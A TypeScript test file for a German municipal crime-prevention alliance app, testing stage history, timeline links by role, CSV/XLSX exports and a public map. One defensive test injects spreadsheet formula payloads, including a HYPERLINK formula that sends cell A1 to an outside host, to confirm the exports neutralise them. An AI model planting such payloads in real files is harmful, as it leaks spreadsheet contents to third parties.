import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { sql } from 'drizzle-orm';
import { parseCsvRows } from '../../../lib/csv.js';
import { createTestApp, demoUser, login, loginAs, roleCaller, type Session, type TestApp } from '../../../../test/helpers.js';
import { createUser } from '../../auth/create-user.js';
import { systemContext } from '../../../server/audit/record.js';

let t: TestApp;
let call: Awaited<ReturnType<typeof roleCaller>>;
beforeAll(async () => {
  t = await createTestApp();
  call = await roleCaller(t.app, ['lpr_staff', 'commune', 'police', 'coach']);
});
afterAll(async () => { await t?.close(); });

describe('stages, milestones and the Bilanz', () => {
  it('derives the stage history from events and audits a manual correction', async () => {
    let res = await call('lpr_staff', 'GET', '/api/alliance/communes/14628060/stage?asOf=2021-11-01');
    expect(res.json()).toMatchObject({ name: 'Dippoldiswalde, Stadt', stage: 'cooperation', stageLabel: 'Kooperationsvereinbarung' });
    expect(res.json().history.map((h: { date: string; stage: string }) => [h.date, h.stage])).toContainEqual(['2021-11-01', 'cooperation']);
    expect(res.json().history.map((h: { date: string; stage: string }) => [h.date, h.stage])).toContainEqual(['2022-02-15', 'active']);
    const bad = await call('lpr_staff', 'POST', '/api/alliance/milestones', { ags: '14628060', occurredOn: '2025-05-01', kind: 'stage_correction', stage: 'dormant' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().field).toBe('note');
    res = await call('lpr_staff', 'POST', '/api/alliance/milestones', { ags: '14628060', occurredOn: '2025-05-01', kind: 'stage_correction', stage: 'dormant', note: 'Koordinatorin in Elternzeit' });
    expect(res.statusCode).toBe(201);
    const now = (await call('lpr_staff', 'GET', '/api/alliance/communes/14628060/stage')).json();
    expect(now.stage).toBe('dormant');
    expect(now.history.at(-1)).toMatchObject({ corrected: true, note: 'Koordinatorin in Elternzeit' });
    const audit = (await call('lpr_staff', 'GET', '/api/alliance/communes/14628060/stage')).statusCode;
    expect(audit).toBe(200);
    const log = await t.app.inject({ url: '/api/admin/audit?action=commune_stage.corrected', headers: (await loginAs(t.app, 'lpr_admin')).headers });
    expect(log.json().items[0]).toMatchObject({ entityType: 'commune_milestone', actorLabel: 'referentin@lpr.demo' });
  });

  it('lists every event of a commune in order and exports it as PDF; others’ Bilanz is closed', async () => {
    const res = await call('commune', 'GET', '/api/alliance/communes/14521550/timeline');
    expect(res.statusCode).toBe(200);
    const entries = res.json().entries as { date: string; kind: string; title: string }[];
    expect(entries.map((e) => e.date)).toEqual([...entries.map((e) => e.date)].sort());
    expect(entries.filter((e) => e.kind === 'agreement_signed' && e.date === '2021-12-17')).toHaveLength(2);
    for (const kind of ['consultation', 'coaching_started', 'coaching_session', 'council_constituted', 'analysis_started', 'field_phase_started']) expect(entries.map((e) => e.kind)).toContain(kind);
    const pdf = await call('commune', 'GET', '/api/alliance/communes/14521550/timeline.pdf');
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-disposition']).toContain('ASSKomm-Bilanz-Schwarzenberg');
    expect((await call('commune', 'GET', '/api/alliance/communes/14628060/timeline')).statusCode).toBe(403);
    expect((await call('police', 'GET', '/api/alliance/communes/14628060/timeline')).statusCode).toBe(403);
    expect((await call('police', 'GET', '/api/alliance/communes/14521550/timeline')).statusCode).toBe(200);
  });

  describe('links in the Bilanz mean “you may open this”', () => {
    type Entry = { kind: string; title: string; detail: string; link: string | null };
    const SCHWARZENBERG = '/api/alliance/communes/14521550/timeline';
    /** The API call behind each web link (what the page opens). */
    const apiOf = (link: string) => link.replace(/^\/beratungen\?/, '/api/consultations?').replace(/^\/vereinbarungen\//, '/api/agreements/').replace(/^\/coaching\//, '/api/coaching/').replace(/^\/analysen\//, '/api/analyses/');
    const linkOf = (kind: string) => (kind === 'consultation' ? 'consultation' : kind.startsWith('agreement_') ? 'agreement' : kind.startsWith('coaching_') ? 'coaching' : ['analysis_started', 'field_phase_started', 'field_phase_closed', 'analysis_completed'].includes(kind) ? 'analysis' : null);
    const get = (s: Session, url: string) => t.app.inject({ method: 'GET', url, headers: s.headers });
    let sessions: Record<'lpr_staff' | 'commune' | 'police' | 'coach' | 'analyst' | 'policeAnalyst2026', Session>;
    let analyses: { id: string; code: string }[];
    beforeAll(async () => {
      // One person with two grants: police of PD Chemnitz and analyst of the 2026 wave only.
      await createUser(t.database.db, systemContext('test'), {
        email: 'polizei-analyse@pd-chemnitz.demo', displayName: 'Polizei und Analyse', password: 'zwei-rollen-eine-person-2026',
        grants: [{ role: 'police', scopeType: 'police_directorate', scopeId: demoUser('police').grants[0]!.scopeId }, { role: 'analyst', scopeType: 'analysis', scopeId: 'sa-schwarzenberg-2026' }],
      });
      sessions = {
        lpr_staff: await loginAs(t.app, 'lpr_staff'), commune: await loginAs(t.app, 'commune'), police: await loginAs(t.app, 'police'),
        coach: await loginAs(t.app, 'coach'), analyst: await loginAs(t.app, 'analyst'), policeAnalyst2026: await login(t.app, 'polizei-analyse@pd-chemnitz.demo', 'zwei-rollen-eine-person-2026'),
      };
      analyses = (await get(sessions.lpr_staff, '/api/analyses?ags=14521550')).json().items;
    });

    /** Every linked entry opens for the viewer, every unlinked one (that has a record) does not; returns which kinds are linked. */
    async function checkLinks(who: keyof typeof sessions) {
      const res = await get(sessions[who], SCHWARZENBERG);
      expect(res.statusCode, who).toBe(200);
      const entries = res.json().entries as Entry[];
      const linked = new Set<string>();
      for (const e of entries) {
        const target = linkOf(e.kind);
        if (!target) { expect(e.link, `${who}: ${e.kind}`).toBeNull(); continue; }
        if (e.link) {
          linked.add(target);
          const opened = await get(sessions[who], apiOf(e.link));
          expect(opened.statusCode, `${who} opens ${e.link}`).toBe(200);
          if (target === 'consultation') expect(opened.json().total).toBeGreaterThan(0);
        }
      }
      return { entries, linked };
    }

    it('LPR and the commune itself: consultations, agreements, coaching and analyses are linked and open', async () => {
      for (const who of ['lpr_staff', 'commune'] as const) {
        const { linked, entries } = await checkLinks(who);
        expect([...linked].sort(), who).toEqual(['agreement', 'analysis', 'coaching', 'consultation']);
        expect(entries.filter((e) => linkOf(e.kind)).every((e) => e.link), who).toBe(true);
      }
    });

    it('police of the directorate: consultations and agreements linked; coaching and analyses, which they cannot open, not', async () => {
      const { entries, linked } = await checkLinks('police');
      expect([...linked].sort()).toEqual(['agreement', 'consultation']);
      const coaching = entries.find((e) => e.kind === 'coaching_started')!;
      expect(coaching.link).toBeNull();
      const process = (await get(sessions.lpr_staff, '/api/coaching?ags=14521550')).json().items[0];
      expect([403, 404]).toContain((await get(sessions.police, `/api/coaching/${process.id}`)).statusCode);
      expect(entries.filter((e) => linkOf(e.kind) === 'analysis').every((e) => e.link === null)).toBe(true);
      for (const a of analyses) expect([403, 404]).toContain((await get(sessions.police, `/api/analyses/${a.id}`)).statusCode);
    });

    it('coach and analyst have no Bilanz to see, so nothing is linked for them', async () => {
      for (const who of ['coach', 'analyst'] as const) expect((await get(sessions[who], SCHWARZENBERG)).statusCode, who).toBe(403);
    });

    it('decides per entry: police who also analyse the 2026 wave get links to that analysis only', async () => {
      const { entries, linked } = await checkLinks('policeAnalyst2026');
      expect([...linked].sort()).toEqual(['agreement', 'analysis', 'consultation']);
      const id2026 = analyses.find((a) => a.code === 'sa-schwarzenberg-2026')!.id;
      const id2022 = analyses.find((a) => a.code === 'sa-schwarzenberg-2022')!.id;
      const started = entries.filter((e) => e.kind === 'analysis_started');
      expect(started.map((e) => e.link).sort()).toEqual([`/analysen/${id2026}`, null].sort());
      expect(entries.some((e) => e.link === `/analysen/${id2022}`)).toBe(false);
      expect((await get(sessions.policeAnalyst2026, `/api/analyses/${id2022}`)).statusCode).toBe(404);
    });
  });

  it('exports the commune list with stages as CSV and XLSX', async () => {
    const csv = await call('lpr_staff', 'GET', '/api/alliance/communes/export?format=csv&asOf=2022-07-22');
    const lines = csv.body.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines).toHaveLength(419);
    expect(lines[0]).toBe('AGS;Gemeinde;Kreis;Polizeidirektion;Einwohner;Stufe;Stufe seit;Modellkommune;Vereinbarung;Coaching;Sicherheitsanalyse;KPR;Letzte Beratung');
    expect(lines.find((l) => l.startsWith('14628060'))).toContain(';aktiv;15.02.2022;nein;ja;ja;');
    expect(lines.filter((l) => /;(Vorvereinbarung|Kooperationsvereinbarung|aktiv);/.test(l))).toHaveLength(56);
    const xlsx = await call('lpr_staff', 'GET', '/api/alliance/communes/export?format=xlsx&asOf=2022-07-22');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    expect(wb.worksheets[0]!.rowCount).toBe(419);
    expect((await call('police', 'GET', '/api/alliance/communes/export?format=csv')).statusCode).toBe(403);
  });

  it('writes names that look like formulas as text in CSV and XLSX, and numbers as numbers', async () => {
    const evil = '=HYPERLINK("https://example.org/?"&A1,"Rathaus")';
    const names = async () => ((await t.database.db.execute(sql`select c.name as commune, d.name as district from communes c join districts d on d.ags = c.district_ags where c.ags = '14628060'`)) as unknown as { rows: { commune: string; district: string }[] }).rows[0]!;
    const before = await names();
    await t.database.db.execute(sql`update communes set name = ${evil} where ags = '14628060'`);
    await t.database.db.execute(sql`update districts set name = '@SUM(1+1)' where ags = '14628'`);
    try {
      const csv = (await call('lpr_staff', 'GET', '/api/alliance/communes/export?format=csv&asOf=2022-07-22')).body;
      const rows = parseCsvRows(csv.replace(/^\uFEFF/, ''), ';');
      const row = rows.find((r) => r[0] === '14628060')!;
      expect(row.slice(1, 3)).toEqual([`'${evil}`, "'@SUM(1+1)"]);
      expect(csv).toContain(`;"'=HYPERLINK(""https://example.org/?""&A1,""Rathaus"")";"'@SUM(1+1)";`);
      expect(row[4]).toMatch(/^\d+$/);
      const wb = new ExcelJS.Workbook();
      const xlsx = (await call('lpr_staff', 'GET', '/api/alliance/communes/export?format=xlsx&asOf=2022-07-22')).rawPayload;
      await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
      const ws = wb.worksheets[0]!;
      let found: ExcelJS.Row | undefined;
      ws.eachRow((r) => { if (r.getCell(1).value === '14628060') found = r; });
      expect(found!.getCell(2).value).toBe(evil);
      expect(found!.getCell(2).type).toBe(ExcelJS.ValueType.String);
      expect(typeof found!.getCell(5).value).toBe('number');
      expect(await (await JSZip.loadAsync(xlsx)).file('xl/worksheets/sheet1.xml')!.async('string')).not.toContain('<f>');
    } finally {
      await t.database.db.execute(sql`update communes set name = ${before.commune} where ags = '14628060'`);
      await t.database.db.execute(sql`update districts set name = ${before.district} where ags = '14628'`);
    }
  });
});

describe('public map', () => {
  it('returns all 418 communes with stage and layer flags on a day, and names the outlines as a content-addressed file', async () => {
    const res = await call(null, 'GET', '/api/public/map?asOf=2021-11-01');
    const map = res.json();
    expect(map.communes).toHaveLength(418);
    const state = (ags: string) => map.communes.find((c: { ags: string }) => c.ags === ags);
    expect(state('14628060')).toMatchObject({ stage: 'cooperation', agreement: true, modelCommune: false, contacted: true });
    expect(state('14511000')).toMatchObject({ modelCommune: true, agreement: true, council: true });
    expect(state('14521550').agreement).toBe(false);
    const later = (await call(null, 'GET', '/api/public/map?asOf=2021-12-17')).json();
    expect(later.communes.find((c: { ags: string }) => c.ags === '14521550').agreement).toBe(true);
    expect(map.communes.filter((c: { stage: string | null }) => ['pre_agreement', 'cooperation', 'active'].includes(c.stage!))).toHaveLength(45);
    expect(later.geometry).toEqual(map.geometry);
    expect(map.geometry.communes).toMatch(/^\/api\/public\/static\/communes\.[0-9a-f]{16}\.json$/);
    const outlines = await call(null, 'GET', map.geometry.communes);
    expect(outlines.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    const features = outlines.json().features as { geometry: { type: string }; properties: { ags: string; name: string } }[];
    expect(features).toHaveLength(418);
    expect(features.find((f) => f.properties.ags === '14628060')!.properties.name).toBe('Dippoldiswalde, Stadt');
    expect(features[0]!.geometry.type).toMatch(/Polygon/);
    const kreise = (await call(null, 'GET', map.geometry.districts)).json().features as { properties: { name: string } }[];
    expect(kreise).toHaveLength(13);
    expect((await call(null, 'GET', '/api/public/static/communes.0000000000000000.json')).statusCode).toBe(404);
  });

  it('gives the slider every change so any day can be shown without the server', async () => {
    const res = await call(null, 'GET', '/api/public/map/timeline');
    const dipp = (res.json().communes as { ags: string; changes: { date: string; stage: string; flags: string[] }[] }[]).find((c) => c.ags === '14628060')!;
    expect(dipp.changes.find((c) => c.date === '2021-11-01')).toMatchObject({ stage: 'cooperation', flags: expect.arrayContaining(['agreement', 'contacted']) });
  });

  it('serves the figure series and the press text block', async () => {
    const series = (await call(null, 'GET', '/api/public/figures/series?from=2021-01-01&to=2022-07-22')).json();
    expect(series.days.at(-1)).toBe('2022-07-22');
    expect(series.figures.find((f: { key: string }) => f.key === 'agreements').values.at(-1)).toBe(40);
    const text = (await call(null, 'GET', '/api/public/figures/press-text?asOf=2022-07-22')).json();
    expect(text.text).toContain('133 Kommunen');
    expect(text.text).toContain('40 Kooperationsvereinbarungen wurden geschlossen, 38 »ASSKomm«-Coaching-Prozesse in Gang gesetzt und 25 Sicherheitsanalysen durchgeführt.');
  });
});
